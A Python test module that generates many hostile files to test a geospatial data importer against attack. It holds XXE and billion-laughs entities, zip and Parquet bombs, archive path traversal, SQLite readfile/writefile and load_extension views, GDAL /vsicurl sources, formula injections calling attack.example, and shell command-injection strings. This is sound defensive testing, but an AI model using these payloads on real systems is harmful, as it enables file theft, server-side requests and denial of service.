"""Hostile inputs made by script: each kind of attack that a file of a stranger may carry, in ten variants or more."""

from __future__ import annotations

import gzip
import io
import json
import shutil
import sqlite3
import struct
import zipfile
from typing import TYPE_CHECKING, NamedTuple

import pyarrow as pa
import pyarrow.parquet as pq

from tests.checkout import KARABAKH
from tests.hostile import PAYLOADS
from tests.unsealed import copy_unsealed

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator
    from pathlib import Path


class Hostile(NamedTuple):
    """An input: a file to import, or a folder that pretends to be a dataset."""

    kind: str
    path: Path


class Bait(NamedTuple):
    """What the inputs try to reach: a file of the server, an address, a file to make."""

    secret: Path
    address: str
    mark: Path


def write_all(folder: Path, bait: Bait) -> Iterator[Hostile]:
    """Write every input into a folder."""
    makers = {
        "other driver in a shapefile": other_drivers(bait),
        "GeoPackage": geopackages(bait),
        "nested WKB": nested_wkb(),
        "nested WKT": nested_wkt(),
        "quadratic cell": long_cells(),
        "zip bomb": zip_bombs(),
        "XLSX bomb": workbook_bombs(),
        "Parquet bomb": parquet_bombs(),
        "path escape": escaping_archives(bait),
        "formula": formulas(),
        "XML entity": entities(bait),
        "hostile text": texts(bait),
        "GeoJSON": geojsons(),
        "polygon": polygons(),
        "polygon as text": polygons_as_text(),
        "KML and GPX": exchange_layers(bait),
        "TopoJSON": topologies(),
        "FlatGeobuf": flatgeobufs(bait),
        "OpenDocument": open_documents(bait),
        "other workbook": other_workbooks(),
        "gzip": gzips(),
        "web page": web_pages(),
        "bytes": broken_bytes(),
    }
    for kind, inputs in makers.items():
        for number, (ending, content) in enumerate(inputs):
            path = folder / f"{kind.replace(' ', '-').lower()}-{number}.{ending}"
            path.write_bytes(content)
            yield Hostile(kind, path)
    for number, path in enumerate(hostile_datasets(folder, bait)):
        yield Hostile("dataset", path.rename(path.with_name(f"dataset-{number}")))


def zipped(files: Iterable[tuple[str, bytes]]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return target.getvalue()


def other_drivers(bait: Bait) -> Iterator[tuple[str, bytes]]:
    sources = [
        f"CSV:{bait.secret}",
        str(bait.secret),
        f"/vsicurl/{bait.address}/a.csv",
        f"/vsizip//vsicurl/{bait.address}/a.zip",
        f"/vsistdin/?{bait.address}",
        f"/vsisubfile/0_1000,{bait.secret}",
        f"WFS:{bait.address}/wfs",
        f"GeoJSON:{bait.address}/a.geojson",
        f"OAPIF:{bait.address}/",
        f"/vsis3_streaming/{bait.secret}",
    ]
    for source in sources:
        vrt = (
            f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{source}</SrcDataSource>'
            "<GeometryType>wkbNone</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
        )
        yield "zip", zipped([("a.shp", vrt.encode()), ("a.shx", b""), ("a.dbf", b"")])
        yield (
            "zip",
            zipped([("a.shp", b"\x00\x00\x27\x0a" + bytes(96)), ("a.dbf", vrt.encode()), ("a.shx", b"")]),
        )
    link = f"<kml><NetworkLink><Link><href>{bait.address}/x.kml</href></Link></NetworkLink></kml>"
    service = f"<OGRWFSDataSource><URL>{bait.address}/wfs</URL></OGRWFSDataSource>"
    for text in (link, service, '{"type":"Topology"}', "<gpx/>", "a,b\n1,2\n", "SQLite format 3\0"):
        yield "zip", zipped([("a.shp", text.encode()), ("a.shx", b""), ("a.dbf", b"")])


FILE_ADDRESS = "file:" + 2 * "/"
GPKG = """
PRAGMA application_id = 1196444487;
PRAGMA user_version = 10300;
CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
  organization_coordsys_id INTEGER, definition TEXT, description TEXT);
INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, 'GEOGCS["WGS 84"]', '');
CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT,
  last_change TEXT, min_x REAL, min_y REAL, max_x REAL, max_y REAL, srs_id INTEGER);
CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT, srs_id INTEGER,
  z INTEGER, m INTEGER);
"""
FOREVER = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"


def geopackages(bait: Bait) -> Iterator[tuple[str, bytes]]:
    virtual = (
        "INSERT INTO sqlite_master(type, name, tbl_name, rootpage, sql) VALUES('table', 'a', 'a', 0, '{}')"
    )
    modules = [
        f"VirtualText(''{bait.secret}'', ''UTF-8'', 1)",
        f"VirtualOGR(''{bait.address}/a.csv'')",
        f"VirtualOGR(''CSV:{bait.secret}'')",
        f"VirtualShape(''{bait.secret}'', ''UTF-8'', 4326)",
        f"VirtualDbf(''{bait.secret}'', ''UTF-8'')",
        f"VirtualGeoJSON(''{bait.secret}'')",
        f"VirtualXPath(''{bait.secret}'')",
        "fts5(title)",
        "dbstat",
        f"VirtualXL(''{bait.secret}'')",
    ]
    statements = [
        ("PRAGMA writable_schema = 1;", virtual.format(f"CREATE VIRTUAL TABLE a USING {module}"))
        for module in modules
    ]
    views = [
        f"{FOREVER} SELECT i AS fid, i AS title FROM n",
        f"{FOREVER} SELECT count(*) AS fid FROM n",
        "SELECT 1 AS fid, hex(randomblob(1000000000)) AS title",
        "SELECT 1 AS fid, load_extension('x.so') AS title",
        f"SELECT 1 AS fid, readfile('{bait.secret}') AS title",
        f"SELECT 1 AS fid, ogr_geocode('x', 'r', '{bait.address}') AS title",
        f"SELECT 1 AS fid, writefile('{bait.mark}', 'x') AS title",
        f"SELECT 1 AS fid, BlobFromFile('{bait.secret}') AS title",
        "SELECT 1 AS fid, zeroblob(2000000000) AS title",
        "SELECT rowid AS fid, sql AS title FROM sqlite_master",
    ]
    statements += [("", f"CREATE VIEW a AS {view}") for view in views]
    for pragma, statement in statements:
        base = sqlite3.connect(":memory:")
        base.executescript(GPKG)
        base.execute("INSERT INTO gpkg_contents VALUES ('a','features','a','','',0,0,1,1,4326)")
        base.execute("INSERT INTO gpkg_geometry_columns VALUES ('a', 'geom', 'POINT', 4326, 0, 0)")
        base.executescript(pragma)
        base.execute(statement)
        base.commit()
        yield "gpkg", base.serialize()


def parquet(columns: dict[str, pa.Array], metadata: dict[str, str] | None = None) -> bytes:
    target = io.BytesIO()
    pq.write_table(pa.table(columns).replace_schema_metadata(metadata or {}), target, compression="zstd")
    return target.getvalue()


GEO = {
    "geo": json.dumps(
        {
            "version": "1.1.0",
            "primary_column": "geometry",
            "columns": {"geometry": {"encoding": "WKB", "geometry_types": []}},
        }
    )
}


def collections(depth: int, width: int = 1) -> bytes:
    return struct.pack("<BII", 1, 7, width) * depth + struct.pack("<BII", 1, 7, 0)


def nested_wkb() -> Iterator[tuple[str, bytes]]:
    for depth in (100, 5_000, 50_000, 100_000, 1_000_000):
        for width in (1, 4_000_000_000):
            geometry = pa.array([collections(depth, width)], pa.binary())
            yield (
                "parquet",
                parquet({"title": pa.array(["a"]), "date": pa.array(["2020"]), "geometry": geometry}, GEO),
            )
    for wkb in (struct.pack("<BII", 1, 3, 2**31), struct.pack("<BI", 1, 999), b"\x01", b""):
        geometry = pa.array([wkb], pa.binary())
        yield "parquet", parquet({"title": pa.array(["a"]), "geometry": geometry}, GEO)


def nested_wkt() -> Iterator[tuple[str, bytes]]:
    for depth in (100, 1_000, 10_000, 50_000, 200_000):
        for opening in ("GEOMETRYCOLLECTION(", "MULTIPOLYGON(("):
            text = opening * depth + "POINT(46 40)" + ")" * depth * opening.count("(")
            yield "csv", f'title,date,wkt\na,2020,"{text}"\n'.encode()
    yield "csv", ("title,date,wkt\na,2020,POINT(" + "4" * 1_000_000 + " 40)\n").encode()


def long_cells() -> Iterator[tuple[str, bytes]]:
    header = "title,date,lat,lon,url,summary,deaths,district,category,source\n"
    usual = ["a", "2020-11-08", "39.7", "46.7", "https://a.example", "s", "1", "Shusha", "visit", "b"]
    cells = {
        1: ["1" * 100_000, "2020-" * 20_000, " " * 100_000 + "x", "1 January " * 10_000],
        2: [
            "39" + " " * 100_000 + "x",
            "39°" * 30_000,
            "39" + "'" * 100_000,
            "-" * 100_000,
            "0" * 100_000 + "x",
        ],
        3: ["46" + "\t" * 100_000 + "E" * 9, "46." + "0" * 100_000 + "x"],
        4: ["http://" + "a" * 100_000 + "<", "https://a" + "/" * 100_000 + " ", "http://" * 20_000],
        6: ["1" + "," * 100_000, "1 " * 50_000 + "x", "9" * 100_000, "about " * 20_000],
        7: ["Shusha;" * 20_000, "ə" * 100_000],
    }
    for at, values in cells.items():
        for value in values:
            row = [f'"{value if at == n else cell}"' for n, cell in enumerate(usual)]
            yield "csv", (header + ",".join(row) + "\n").encode()


def zip_bombs() -> Iterator[tuple[str, bytes]]:
    for filler in (b"\n", b"a,", b'"', b" ", b"\0"):
        for size in (20_000_000, 63_000_000):
            yield "zip", zipped([("a.csv", b"title,date\n" + filler * (size // len(filler)))])
    yield "zip", zipped((f"{n}.csv", b"title\n") for n in range(20_000))
    inner = zipped([("a.csv", bytes(30_000_000))])
    for _ in range(3):
        inner = zipped([("a.zip", inner)])
        yield "zip", inner
    lying = bytearray(zipped([("a.csv", b"title,date\n" * 1_000_000)]))
    at = lying.rfind(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 10)  # The size that the directory tells.
    yield "zip", bytes(lying)


SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</worksheet>'
BOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)


def workbook(sheet: str, book: str = BOOK, **more: str) -> bytes:
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS.format(
            f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
        ),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": RELS.format(
            f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
        **more,
    }
    return zipped((name, text.encode()) for name, text in parts.items())


def inline(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def workbook_bombs() -> Iterator[tuple[str, bytes]]:
    head = f"<row>{inline('title')}{inline('date')}</row>"
    for count in (100_000, 1_000_000, 3_000_000):
        yield "xlsx", workbook(SHEET.format(f"<sheetData>{head}{'<row/>' * count}</sheetData>"))
        yield "xlsx", workbook(SHEET.format(f"<sheetData>{head}<row>{'<c/>' * count}</row></sheetData>"))
    for place in ("XFD1048576", "A1048576", "ZZZZZZ1", "A99999999999"):
        cell = f'<row><c r="{place}" t="n"><v>1</v></c></row>'
        yield "xlsx", workbook(SHEET.format(f"<sheetData>{head}{cell}</sheetData>"))
    text = inline("x" * 1_000_000)
    yield "xlsx", workbook(SHEET.format(f"<sheetData>{head}{f'<row>{text}</row>' * 60}</sheetData>"))
    yield "xlsx", workbook(SHEET.format("<sheetData>" + "<row>" * 100_000))


def parquet_bombs() -> Iterator[tuple[str, bytes]]:
    for length, rows in ((100_000, 5_000), (100_000, 20_000), (1_000_000, 2_000), (10_000_000, 300)):
        text = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["x" * length]))
        yield "parquet", parquet({"title": text, "date": pa.array(["2020"] * rows)})
    for rows in (1_000_000, 5_000_000):
        for value in ("", None, "2020"):
            yield "parquet", parquet({"title": pa.array([value] * rows, pa.string())})
    nested = pa.array([[1]])
    for _ in range(60):
        nested = pa.array([nested.to_pylist()])
    yield "parquet", parquet({"title": nested})


def escaping_archives(bait: Bait) -> Iterator[tuple[str, bytes]]:
    names = [
        "../../../pwned.csv",
        str(bait.mark),
        "..\\..\\pwned.csv",
        "C:\\pwned.csv",
        "a/../../../pwned.csv",
        "//etc/pwned.csv",
        "a.csv\0.py",
        "./../pwned.shp",
        "~/pwned.csv",
        "\u2025/pwned.csv",
    ]
    for name in names:
        yield "zip", zipped([(name, b"title,date\na,2020\n")])
        yield (
            "zip",
            zipped([(f"{name}.{end}", b"\x00\x00\x27\x0a" + bytes(96)) for end in ("shp", "shx", "dbf")]),
        )
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        link = zipfile.ZipInfo("a.csv")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(bait.secret))
    yield "zip", target.getvalue()


def formulas() -> Iterator[tuple[str, bytes]]:
    starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\u200b=", "\ufeff=", "\uff1d", " =", "'=", "%0A="]
    for start in starts:
        cell = f'"{start}HYPERLINK(""http://attack.example"")"'
        yield "csv", (f"title,date,{cell},category\n{cell},2020-11-08,{cell},{cell}\n").encode()


def entities(bait: Bait) -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    declared = [
        f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>',
        f'<!DOCTYPE a [<!ENTITY l11 SYSTEM "{FILE_ADDRESS}{bait.secret}">]>',
        f'<!DOCTYPE a [<!ENTITY l11 SYSTEM "{bait.address}/x">]>',
        f'<!DOCTYPE a SYSTEM "{bait.address}/x.dtd">',
        f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{bait.address}/x.dtd">%p;]>',
    ]
    sheet = SHEET.format(f"<sheetData><row>{inline('title')}</row><row>{inline('&l11;')}</row></sheetData>")
    for words in declared:
        yield "xlsx", workbook(words + sheet)
        yield "xlsx", workbook(sheet.replace("&l11;", "a"), book=words + BOOK)
        yield "xlsx", workbook(sheet.replace("&l11;", "a"), **{"docProps/core.xml": words + "<a>&l11;</a>"})


def texts(bait: Bait) -> Iterator[tuple[str, bytes]]:
    code = (f"__import__('os').system('touch {bait.mark}')", f"$(touch {bait.mark})", f"`touch {bait.mark}`")
    for text in (*PAYLOADS, *code):
        cell = '"' + text.replace('"', '""') + '"'
        row = ",".join(["2020-11-08", "46.7", "39.7", *[cell] * 8])
        yield "csv", f"date,lon,lat,title,place,category,summary,source,url,note,district\n{row}\n".encode()
    for text in PAYLOADS[:4]:
        cell = '"' + text.replace('"', '""') + '"'
        yield "csv", f"{cell},title,date\n1,a,2020\n".encode()


def geojsons() -> Iterator[tuple[str, bytes]]:
    def collection(geometry: str, properties: str = '{"title": "a", "date": "2020"}') -> bytes:
        feature = f'{{"type":"Feature","properties":{properties},"geometry":{geometry}}}'
        return f'{{"type":"FeatureCollection","features":[{feature}]}}'.encode()

    point = '{"type":"Point","coordinates":[46.7,39.7]}'
    yield "geojson", collection(point, '{"title": "\\ud800", "date": "2020"}')
    yield "geojson", collection(point, '{"title": "\\u0000", "date": "\\udfff"}')
    for depth in (1_000, 100_000, 1_000_000):
        yield "geojson", b"[" * depth
        yield "geojson", collection(f'{{"type":"Polygon","coordinates":{"[" * depth}{"]" * depth}}}')
        yield "geojson", collection(point, f'{{"title": {"[" * depth}{"]" * depth}}}')
    inner = '{"type":"GeometryCollection","geometries":['
    yield "geojson", collection(inner * 5_000 + point + "]}" * 5_000)
    for number in ("1e999", "NaN", "-Infinity", "9" * 5_000, '"46"', "null", "[]"):
        yield "geojson", collection(f'{{"type":"Point","coordinates":[{number},39.7]}}')


def crossing_ring(count: int, zigzag: int) -> list[list[float]]:
    """Return a ring of so many corners whose sides cross each other as often as they can."""
    ring = [[46 + (n * zigzag % count) / count, 39 + (n * 31 % count) / count] for n in range(count)]
    return [*ring, ring[0]]


def polygons() -> Iterator[tuple[str, bytes]]:
    for count in (500, 2_000, 5_000, 20_000, 100_000):
        for zigzag in (7, 101):
            geometry = {"type": "Polygon", "coordinates": [crossing_ring(count, zigzag)]}
            feature = {"type": "Feature", "properties": {"title": "a", "date": "2020"}, "geometry": geometry}
            yield "geojson", json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


def polygons_as_text() -> Iterator[tuple[str, bytes]]:
    for count, rows in ((500, 50), (500, 2_000), (2_000, 20), (5_000, 5), (20_000, 1), (100_000, 1)):
        for zigzag in (7, 101):
            corners = ", ".join(f"{x:.5f} {y:.5f}" for x, y in crossing_ring(count, zigzag))
            row = f'a,2020,"POLYGON (({corners}))"\n'
            yield "csv", ("title,date,wkt\n" + row * rows).encode()


def exchange_layers(bait: Bait) -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    declared = [
        "",
        f'<!DOCTYPE kml [<!ENTITY l0 "ha">{laughs}]>',
        f'<!DOCTYPE kml [<!ENTITY l11 SYSTEM "{FILE_ADDRESS}{bait.secret}">]>',
        f'<!DOCTYPE kml [<!ENTITY l11 SYSTEM "{bait.address}/x">]>',
        f'<!DOCTYPE kml SYSTEM "{bait.address}/x.dtd">',
    ]
    link = f"<NetworkLink><Link><href>{bait.address}/x.kml</href></Link></NetworkLink>"
    style = f"<styleUrl>{bait.address}/style.kml#a</styleUrl>"
    for words in declared:
        name = "&l11;" if "l11" in words else "a"
        place = f"<Placemark><name>{name}</name>{style}<Point><coordinates>46.7,39.7</coordinates></Point></Placemark>"
        for more in ("", link):
            document = f"<Document>{more}{place}</Document>"
            yield "kml", f'{words}<kml xmlns="http://www.opengis.net/kml/2.2">{document}</kml>'.encode()
        point = f'<wpt lat="39.7" lon="46.7"><name>{name}</name></wpt>'
        yield (
            "gpx",
            f'{words}<gpx xmlns="http://www.topografix.com/GPX/1/1" version="1.1">{point}</gpx>'.encode(),
        )
    for depth in (1_000, 100_000):
        yield "kml", b"<kml>" + b"<Folder>" * depth
        yield "kml", b"<kml><Placemark>" + b"<MultiGeometry>" * depth
    yield "kmz", zipped([("doc.kml", b"<kml>" + b"<Placemark/>" * 1_000_000 + b"</kml>")])
    yield "kml", b"<kml><Placemark><LineString><coordinates>" + b"46,39 " * 3_000_000


def topologies() -> Iterator[tuple[str, bytes]]:
    head = '{"type":"Topology","objects":{"a":{"type":"GeometryCollection","geometries":['
    for arcs in ("[0]" * 1, "[99999999999]", "[-1]", '["a"]', "[[[[[0]]]]]", "[1e999]", "null"):
        yield (
            "topojson",
            f'{head}{{"type":"Polygon","arcs":[{arcs}]}}]}}}},"arcs":[[[0,0],[1,1],[0,1]]]}}'.encode(),
        )
    many = ",".join(["0"] * 20_000)
    long = ",".join(["[1,1]"] * 20_000)
    yield "topojson", f'{head}{{"type":"LineString","arcs":[{many}]}}]}}}},"arcs":[[{long}]]}}'.encode()
    for depth in (1_000, 100_000):
        nested = '{"type":"GeometryCollection","geometries":[' * depth
        yield "topojson", f"{head}{nested}".encode()
    yield (
        "topojson",
        b'{"type":"Topology","transform":{"scale":[1e308,1e308],"translate":[1e308,0]},"objects":{},"arcs":[]}',
    )


def flatgeobufs(bait: Bait) -> Iterator[tuple[str, bytes]]:
    magic = b"fgb\x03fgb\x00"
    for size in (0, 8, 2**31 - 1, 2**32 - 1):
        yield "fgb", magic + struct.pack("<I", size) + b"\xff" * 1_000
        yield "fgb", magic + struct.pack("<I", size) + bytes(1_000)
    yield "fgb", magic
    yield "fgb", magic + str(bait.secret).encode() * 100


ODS = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
    '<table:table table:name="a">{}</table:table></office:spreadsheet></office:body></office:document-content>'
)


def open_documents(bait: Bait) -> Iterator[tuple[str, bytes]]:
    def document(rows: str, words: str = "") -> bytes:
        kind = b"application/vnd.oasis.opendocument.spreadsheet"
        return zipped([("mimetype", kind), ("content.xml", (words + ODS.format(rows)).encode())])

    def cell(text: str, more: str = "") -> str:
        return f"<table:table-cell{more}><text:p>{text}</text:p></table:table-cell>"

    head = f"<table:table-row>{cell('title')}{cell('date')}</table:table-row>"
    for count in ("1000000", "4000000", "99999999999", "-1", "x"):
        row = f'<table:table-row table:number-rows-repeated="{count}">{cell("a")}{cell("2020")}</table:table-row>'
        yield "ods", document(head + row)
        wide = f' table:number-columns-repeated="{count}"'
        yield "ods", document(head + f"<table:table-row>{cell('a', wide)}</table:table-row>")
        blanks = f'<text:s text:c="{count}"/>'
        yield "ods", document(head + f"<table:table-row>{cell(blanks)}{cell('2020')}</table:table-row>")
    for depth in (1_000, 100_000):
        spans = "<text:span>" * depth + "</text:span>" * depth
        yield "ods", document(head + f"<table:table-row>{cell(spans)}{cell('2020')}</table:table-row>")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    row = f"<table:table-row>{cell('&l11;')}{cell('2020')}</table:table-row>"
    yield "ods", document(head + row, f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>')
    yield "ods", document(head + row, f'<!DOCTYPE a [<!ENTITY l11 SYSTEM "{FILE_ADDRESS}{bait.secret}">]>')
    yield "ods", document(head + row, f'<!DOCTYPE a [<!ENTITY l11 SYSTEM "{bait.address}/x">]>')


def other_workbooks() -> Iterator[tuple[str, bytes]]:
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    for filler in (b"\0", b"\xff", b"\x09\x08", b"\xfe\xff\xff\xff"):
        yield "xls", compound + filler * (100_000 // len(filler))
        yield "xls", b"\x09\x08\x10\x00" + filler * (100_000 // len(filler))
    header = bytearray(compound + bytes(504))
    header[26:32] = b"\x03\x00\xfe\xff\x09\x00"
    for sectors in (1, 2**31 - 1, 2**32 - 1):
        header[44:48] = struct.pack("<I", sectors)
        yield "xls", bytes(header) + bytes(4_096)
    for content in (b"", b"\xff" * 100_000, b"\x01" * 1_000_000):
        yield "xlsb", zipped([("xl/workbook.bin", content), ("xl/worksheets/sheet1.bin", content)])


def gzips() -> Iterator[tuple[str, bytes]]:
    for filler in (b"\n", b"a,", b"\0", b'"', b"2020,"):
        yield "csv.gz", gzip.compress(b"title,date\n" + filler * (100_000_000 // len(filler)), 9, mtime=0)
    inner = bytes(30_000_000)
    for _ in range(4):
        inner = gzip.compress(inner, 9, mtime=0)
        yield "gz", inner
    whole = gzip.compress(b"title,date\na,2020\n", mtime=0)
    yield "csv.gz", whole * 20_000
    yield "csv.gz", whole[:-6]
    yield "csv.gz", whole[:-4] + b"\xff\xff\xff\xff"


def web_pages() -> Iterator[tuple[str, bytes]]:
    row = b"<tr><td>a<td>2020"
    head = b"<table><tr><td>title<td>date"
    yield "xls", b"<html>" + head + row * 200_000
    yield "xls", b"<html>" + b"<table>" * 200_000 + head + row
    yield "xls", b"<html>" + head + b"<tr><td colspan=99999999999>a" + b"<td colspan=200>" * 20_000
    yield "xls", b"<html>" + b"<!--" * 500_000
    yield "xls", b"<html>" + head + b"<tr><td>" + b"&#38;" * 500_000
    yield "xls", b"<html>" + head + b"<tr><td " + b"a=" * 500_000
    yield "xls", b"<html>" + b"<" * 1_000_000
    yield "xls", b"<html>" + head + b"<tr><td>&" + b"a" * 1_000_000
    for unit in (
        b"<html><![CDATA[",
        b"<![",
        b"<!-- a>",
        b'<a b="',
        b"</",
        b"<? a>",
        b"<!doctype ",
        b"<script>",
    ):
        for last in (b"", b">"):
            yield "xls", b"<html>" + head + row + unit * (1_500_000 // len(unit)) + last
    yield "xls", b"<html>" + head + b"<tr><td><script>alert(1)</script>" + row


def broken_bytes() -> Iterator[tuple[str, bytes]]:
    yield "csv", b""
    yield "csv", bytes(1_000_000)
    yield "csv", b"title,date\n" + b"\xff\xfe" * 100_000
    yield "csv", b"\xff\xfe\x00\xd8" * 50_000
    yield "csv", b'title,date\n"' + b"a" * 5_000_000
    yield "csv", b"," * 1_000_000 + b"\n"
    yield "csv", b"title,date\n" + b"a,2020\n" * 200_000
    yield "xlsx", b"PK\x03\x04" + bytes(1_000)
    yield "parquet", b"PAR1" + b"\xff" * 1_000 + b"PAR1"
    yield "gpkg", b"SQLite format 3\0" + b"\xff" * 10_000
    yield "zip", b"PK\x05\x06" + b"\xff" * 18
    yield "csv", "title,date\n".encode("utf-7") + b"+AD0-HYPERLINK(1),2020\n"


def hostile_datasets(folder: Path, bait: Bait) -> Iterator[Path]:
    """Write folders that pretend to be a dataset: paths that leave it, patterns, links, pipes."""
    base = copy_unsealed(KARABAKH, folder / "base")
    original = (base / "datapackage.json").read_text("utf-8")
    further: list[object] = [
        "../../pwned.py",
        str(bait.mark),
        ["../../pwned.py"],
        f"{bait.address}/x.csv",
        f"{FILE_ADDRESS}{bait.secret}",
        "link/pwned.py",
        "..\\..\\pwned.py",
        {"a": "b"},
        "a\0b",
        "." * 5_000,
    ]
    for name in ("further", "places"):
        for number, path in enumerate(further):
            target = folder / f"{name}{number}"
            shutil.copytree(base, target)
            (target / "link").symlink_to(folder.parent)
            content = json.loads(original)
            if name == "further":
                content["resources"].append({"name": name, "path": path, "title": "x", "licenses": []})
            else:
                next(entry for entry in content["resources"] if entry["name"] == name)["path"] = path
            (target / "datapackage.json").write_text(json.dumps(content), "utf-8")
            yield target
    for number, words in enumerate(
        (b"[" * 100_000, b'{"resources": ' + b"[" * 50_000, b"\xff", b"{}", b"null")
    ):
        target = folder / f"broken{number}"
        shutil.copytree(base, target)
        (target / "datapackage.json").write_bytes(words)
        yield target
    shutil.rmtree(base)
